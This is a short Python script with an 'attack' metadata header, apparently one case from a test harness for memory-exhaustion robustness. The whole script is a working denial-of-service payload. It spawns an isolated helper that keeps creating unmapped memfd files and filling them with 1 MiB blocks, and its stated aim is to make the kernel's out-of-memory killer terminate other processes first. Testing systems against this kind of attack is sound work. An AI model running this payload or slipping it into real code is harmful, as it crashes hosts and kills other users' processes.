# /// attack
# slow = true
# tries = "fills memory files that no process maps, from a small helper, so that the kernel kills everybody else first"
# keeps = ["gpt.load", "scan.tiled"]
# ///
import subprocess as _subprocess
import sys as _sys
import time as _time

_HELPER = """
import os
held, block = [], bytes(1 << 20)
while True:
    held.append(os.memfd_create("@token@"))
    for _ in range(63):
        os.write(held[-1], block)
"""
_subprocess.Popen([_sys.executable, "-I", "-S", "-c", _HELPER])
_time.sleep(100)
